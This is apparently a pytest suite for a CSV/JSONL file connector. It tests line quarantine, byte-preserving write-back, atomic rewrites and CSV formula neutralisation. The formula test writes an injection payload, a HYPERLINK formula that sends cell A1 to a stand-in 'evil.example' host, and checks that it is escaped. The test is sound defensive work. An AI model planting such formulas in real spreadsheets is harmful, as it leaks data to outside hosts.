"""The files connector never loses a byte it did not mean to change, quarantines bad lines whole,
and neutralises CSV formulas on write (reading its own escaping back)."""
from __future__ import annotations

import base64
import json
import os
import stat
from pathlib import Path

import pytest

from concord.connectors.files import FilesConfig, FilesConnector
from concord.connectors.files.fileio import neutralise, unneutralise
from concord.hub.contracts import Change, ConnectorContext
from concord.hub.errors import TransientError

HEADER = b"CustomerNo,Name1,City,CreditLimit,ChangedAt,ConcordId\r\n"
LONG = "x" * 3000
LINES = [
    HEADER,
    b"C1,Alpha GmbH,Berlin,100,2026-11-01T10:00:00,\r\n",
    b"C2,Beta \xff\xfe AG,Berlin,200,2026-11-01T10:00:00,\r\n",                  # invalid UTF-8
    b"C3,Gamma KG,Hamburg,300,2026-11-01T10:00:00,,surplus," + LONG.encode() + b"\r\n",  # extra cells, long
    b"\r\n",                                                                     # blank line
    b'"C4" , "Delta ""Quoted"" SE",K\xc3\xb6ln,"-5",2026-11-01T10:00:00,\r\n',   # odd quoting
    b'C5,"Epsilon\r\nSecond line",Berlin,500,2026-11-01T10:00:00,\r\n',          # quoted line break
    b"C6,Zeta Ltd,Berlin,600,2026-11-01T10:00:00,\r\n",
    b"C7,Eta Oy,Berlin,700,2026-11-01T10:00:00,",                                 # no final line break
]


def _conn(folder: Path, **entity: object) -> FilesConnector:
    spec = {"file": "customers.csv", "key": "CustomerNo", "external_id": "ConcordId", "id_prefix": "C",
            "modified_column": "ChangedAt", "fields": {"CreditLimit": "decimal"}, **entity}
    return FilesConnector(FilesConfig(root=str(folder), entities={"customers": spec}), ConnectorContext(system="erp"))


@pytest.fixture
def drop(tmp_path: Path) -> Path:
    folder = tmp_path / "erp"
    folder.mkdir()
    (folder / "customers.csv").write_bytes(b"".join(LINES))
    return folder


def _records(conn: FilesConnector) -> list[dict]:
    return [r for p in conn.read("customers") for r in p.records]


def test_bad_lines_are_quarantined_whole_and_neighbours_read(drop: Path) -> None:
    recs = _records(_conn(drop))
    good = {r["CustomerNo"]: r for r in recs if "__error__" not in r}
    bad = [r for r in recs if "__error__" in r]
    assert sorted(good) == ["C1", "C4 ", "C5", "C6", "C7"]   # `"C4" ,` reads as the csv module reads it
    assert good["C5"]["Name1"] == "Epsilon\r\nSecond line"
    assert len(bad) == 2
    utf, extra = bad
    assert "customers.csv:3:" in utf["__error__"] and "not valid utf-8" in utf["__error__"]
    assert base64.b64decode(utf["__bytes_b64__"]) == LINES[2]
    assert utf["__line__"] == "C2,Beta \\xff\\xfe AG,Berlin,200,2026-11-01T10:00:00,"
    assert "customers.csv:4:" in extra["__error__"] and "2 cell(s) more than the 6 header columns" in extra["__error__"]
    assert extra["__line__"] == LINES[3].decode().removesuffix("\r\n")      # whole, not cut at 500
    # the records survive JSON (what the engine stores as the quarantine payload) unchanged
    assert json.loads(json.dumps(bad)) == bad


def test_write_back_changes_only_the_rows_it_means_to(drop: Path) -> None:
    conn = _conn(drop)
    started = conn.context.utcnow().isoformat(timespec="seconds")
    res = conn.write("customers", [
        Change(op="update", entity="customers", key="C6", fields={"City": "Hamburg"}, idempotency_key="u"),
        Change(op="delete", entity="customers", key="C1", idempotency_key="d"),
        Change(op="create", entity="customers", fields={"Name1": "New AG", "City": "Berlin"}, idempotency_key="c",
               golden_id="G-9"),
    ])
    assert [r.ok for r in res] == [True, True, True], res
    assert res[2].target_id == "C8"
    out = (drop / "customers.csv").read_bytes()
    ended = conn.context.utcnow().isoformat(timespec="seconds")

    def expected(now: str) -> bytes:
        return (LINES[0] + LINES[2] + LINES[3] + LINES[4] + LINES[5] + LINES[6]
                + f"C6,Zeta Ltd,Hamburg,600,{now},\r\n".encode() + LINES[8]
                + f"\r\nC8,New AG,Berlin,,{now},G-9\r\n".encode())
    assert out in (expected(started), expected(ended))      # the write's clock read falls between the two
    # and the result reads back: the bad lines are still there, still quarantined
    recs = _records(conn)
    assert sum("__error__" in r for r in recs) == 2
    assert {r["CustomerNo"] for r in recs if "__error__" not in r} >= {"C5", "C6", "C7", "C8"}


def test_update_of_an_oddly_quoted_row_rewrites_that_row_only(drop: Path) -> None:
    conn = _conn(drop)
    key = next(r["CustomerNo"] for r in _records(conn) if "__error__" not in r and r["CustomerNo"].startswith("C4"))
    [res] = conn.write("customers", [Change(op="update", entity="customers", key=key, fields={"City": "Bonn"},
                                            idempotency_key="q")])
    assert res.ok, res.error
    out = (drop / "customers.csv").read_bytes().split(b"\r\n")
    before = b"".join(LINES).split(b"\r\n")
    changed = [i for i, (a, b) in enumerate(zip(before, out, strict=True)) if a != b]
    assert changed == [5]                                   # the C4 line, nothing else
    row = next(r for r in _records(conn) if r.get("CustomerNo") == key)
    assert row["City"] == "Bonn" and row["Name1"] == ' "Delta ""Quoted"" SE"' and row["CreditLimit"] == "-5"


def test_no_op_batch_does_not_touch_the_file(drop: Path) -> None:
    before = (drop / "customers.csv").stat()
    [res] = _conn(drop).write("customers", [Change(op="update", entity="customers", key="C99", fields={"City": "X"},
                                                   idempotency_key="n")])
    assert not res.ok
    after = (drop / "customers.csv").stat()
    assert (before.st_ino, before.st_mtime_ns) == (after.st_ino, after.st_mtime_ns)


def test_csv_formulas_are_neutralised_and_read_back(drop: Path) -> None:
    conn = _conn(drop)
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    res = conn.write("customers", [
        Change(op="update", entity="customers", key="C6", fields={"Name1": evil, "CreditLimit": -5},
               idempotency_key="f1"),
        Change(op="update", entity="customers", key="C7", fields={"Name1": "@SUM(1)", "City": "-5",
                                                                  "CreditLimit": "=1+1"}, idempotency_key="f2"),
        Change(op="update", entity="customers", key="C1", fields={"Name1": "'=already quoted", "City": "\tTab",
                                                                  "CreditLimit": "-1.234,56"}, idempotency_key="f3"),
    ])
    assert all(r.ok for r in res), res
    text = (drop / "customers.csv").read_bytes().decode("utf-8", "replace")
    assert "'=HYPERLINK(" in text and "'@SUM(1)" in text and "''=already quoted" in text and "'\tTab" in text
    assert ",-5," in text                 # numbers are not mangled, in the numeric column or elsewhere
    assert "'=1+1" in text                # a formula in a numeric column is still a formula
    assert "-1.234,56" in text and "'-1.234,56" not in text
    rows = {r["CustomerNo"]: r for r in _records(conn) if "__error__" not in r}
    assert rows["C6"]["Name1"] == evil and rows["C6"]["CreditLimit"] == "-5"
    assert rows["C7"]["Name1"] == "@SUM(1)" and rows["C7"]["City"] == "-5" and rows["C7"]["CreditLimit"] == "=1+1"
    assert rows["C1"]["Name1"] == "'=already quoted" and rows["C1"]["City"] == "\tTab"


@pytest.mark.parametrize("value", ["", "plain", "=1", "+1", "-1", "-x", "@x", "\tx", "\rx", "'", "'=1", "''=1",
                                   "'x", "''", "-5", "+49301234", "-1.5e3", "=", "'-5", "- 5", "+1-1", "1"])
def test_neutralise_round_trips(value: str) -> None:
    written = neutralise(value)
    assert unneutralise(written) == value
    numbers = ("+1", "-1", "-5", "+49301234", "-1.5e3")
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r")) or written in numbers


def test_escaping_can_be_switched_off(drop: Path) -> None:
    conn = _conn(drop, escape_formulas=False)
    conn.write("customers", [Change(op="update", entity="customers", key="C6", fields={"Name1": "=1+1"},
                                    idempotency_key="o")])
    assert b"\r\nC6,=1+1,Berlin" in (drop / "customers.csv").read_bytes()


def test_new_column_is_refused_while_a_line_has_extra_cells(drop: Path) -> None:
    conn = _conn(drop, fields={"CreditLimit": "decimal", "Region": "string"})
    before = (drop / "customers.csv").read_bytes()
    [res] = conn.write("customers", [Change(op="update", entity="customers", key="C6", fields={"Region": "N"},
                                            idempotency_key="r")])
    assert not res.ok and "customers.csv:4" in res.error.message
    assert (drop / "customers.csv").read_bytes() == before


def test_unbalanced_quote_quarantines_one_line(tmp_path: Path) -> None:
    (tmp_path / "customers.csv").write_bytes(HEADER + b'C1,"Broken,Berlin,1,2026-11-01T10:00:00,\r\n'
                                             + b"C2,Fine,Berlin,2,2026-11-01T10:00:00,\r\n"
                                             + b"C3,Fine too,Berlin,3,2026-11-01T10:00:00,\r\n")
    recs = _records(_conn(tmp_path))
    assert [r.get("CustomerNo") for r in recs] == [None, "C2", "C3"]
    assert "customers.csv:2:" in recs[0]["__error__"] and "unbalanced quote" in recs[0]["__error__"]
    assert recs[0]["__line__"] == 'C1,"Broken,Berlin,1,2026-11-01T10:00:00,'


def test_a_concurrent_change_aborts_the_rewrite(drop: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import concord.connectors.files.fileio as fio
    real = fio.Drop.changed_since_load

    def someone_appends(self: fio.Drop) -> bool:
        with open(self.lay.path, "ab") as fh:
            fh.write(b"\r\nC42,Appended by the ERP,Berlin,1,2026-11-01T10:00:00,\r\n")
        return real(self)

    monkeypatch.setattr(fio.Drop, "changed_since_load", someone_appends)
    with pytest.raises(TransientError):
        _conn(drop).write("customers", [Change(op="update", entity="customers", key="C6", fields={"City": "X"},
                                               idempotency_key="x")])
    assert b"C42,Appended by the ERP" in (drop / "customers.csv").read_bytes()
    assert not [p for p in drop.iterdir() if p.name.startswith(".concord-")]


def test_crash_before_rename_leaves_the_file_whole(drop: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    before = (drop / "customers.csv").read_bytes()

    def crash(*_a: object) -> None:
        raise OSError("power cut")

    monkeypatch.setattr(os, "replace", crash)
    with pytest.raises(OSError):
        _conn(drop).write("customers", [Change(op="update", entity="customers", key="C6", fields={"City": "X"},
                                               idempotency_key="x")])
    assert (drop / "customers.csv").read_bytes() == before
    assert not [p for p in drop.iterdir() if p.name.startswith(".concord-")]


def test_rewrite_keeps_permissions(drop: Path) -> None:
    os.chmod(drop / "customers.csv", 0o640)
    _conn(drop).write("customers", [Change(op="update", entity="customers", key="C6", fields={"City": "X"},
                                           idempotency_key="p")])
    assert stat.S_IMODE((drop / "customers.csv").stat().st_mode) == 0o640


JSONL = [
    b'{"id": "a1", "name": "Alpha"}\n',
    b"# exported 2026-11-01\n",
    b'{"id": "a2", "name": "Be\xe9ta"}\n',                                  # latin-1 byte: not UTF-8
    b"not json at all " + LONG.encode() + b"\n",
    b"\n",
    b'["a", "list"]\n',
    b'{"id":"a3",   "name":"Gamma",  "n": 1.50}\r\n',                      # odd spacing, CRLF
    b'{"id": "a4", "name": "Delta"}\n',
]


def test_jsonl_write_back_keeps_every_other_byte(tmp_path: Path) -> None:
    (tmp_path / "accounts.jsonl").write_bytes(b"".join(JSONL))
    conn = FilesConnector(FilesConfig(root=str(tmp_path), entities={"accounts": {
        "file": "accounts.jsonl", "key": "id", "comment_prefix": "#"}}))
    recs = [r for p in conn.read("accounts") for r in p.records]
    assert [r.get("id") for r in recs] == ["a1", None, None, None, "a3", "a4"]
    utf, js, lst = recs[1], recs[2], recs[3]
    assert "accounts.jsonl:3:" in utf["__error__"] and "not valid utf-8" in utf["__error__"]
    assert base64.b64decode(utf["__bytes_b64__"]) == JSONL[2]
    assert "accounts.jsonl:4:" in js["__error__"] and js["__line__"] == JSONL[3].decode().rstrip("\n")
    assert "accounts.jsonl:6:" in lst["__error__"]
    [res] = conn.write("accounts", [Change(op="update", entity="accounts", key="a3", fields={"name": "G"},
                                           idempotency_key="j")])
    assert res.ok
    out = (tmp_path / "accounts.jsonl").read_bytes()
    assert out == b"".join(JSONL[:6]) + b'{"id": "a3", "name": "G", "n": 1.5}\r\n' + JSONL[7]


def test_keys_and_concord_ids_on_bad_lines_are_never_reused(tmp_path: Path) -> None:
    (tmp_path / "customers.csv").write_bytes(HEADER + b"C1,Alpha,Berlin,1,2026-11-01T10:00:00,\r\n"
                                             + b"C9,Bro\xffken,Berlin,1,2026-11-01T10:00:00,G-7\r\n")
    conn = _conn(tmp_path)
    res = conn.write("customers", [
        Change(op="create", entity="customers", fields={"Name1": "New"}, idempotency_key="1", golden_id="G-1"),
        Change(op="upsert", entity="customers", fields={"Name1": "Again"}, idempotency_key="2", golden_id="G-7"),
        Change(op="update", entity="customers", key="C9", fields={"City": "X"}, idempotency_key="3"),
        Change(op="delete", entity="customers", key="C9", idempotency_key="4"),
    ])
    assert res[0].ok and res[0].target_id == "C10"
    for r in res[1:]:
        assert not r.ok and "customers.csv:3" in r.error.message and "cannot be read" in r.error.message
    out = (tmp_path / "customers.csv").read_bytes()
    assert b"C9,Bro\xffken,Berlin,1,2026-11-01T10:00:00,G-7\r\n" in out and out.count(b"G-7") == 1


def test_column_cursor_reports_bad_lines_without_moving_the_cursor(drop: Path) -> None:
    conn = _conn(drop, cursor="ChangedAt")
    pages = list(conn.read("customers"))
    assert [r for r in pages[0].records if "__error__" not in r] == [] and pages[0].checkpoint is None
    assert len(pages[0].records) == 2
    assert pages[-1].checkpoint is not None and pages[-1].checkpoint.value == "2026-11-01T10:00:00"


def test_jsonl_key_on_a_bad_line_is_not_reused(tmp_path: Path) -> None:
    (tmp_path / "a.jsonl").write_bytes(b'{"id": "acc-1"}\n{"id": "acc-7", "name": "trunc\n')
    conn = FilesConnector(FilesConfig(root=str(tmp_path), entities={"a": {"file": "a.jsonl", "key": "id",
                                                                          "id_prefix": "acc-"}}))
    [res] = conn.write("a", [Change(op="create", entity="a", fields={"id": "x"}, idempotency_key="1")])
    assert res.ok and res.target_id == "acc-8"
    assert (tmp_path / "a.jsonl").read_bytes() == (b'{"id": "acc-1"}\n{"id": "acc-7", "name": "trunc\n'
                                                   b'{"id": "acc-8"}\n')
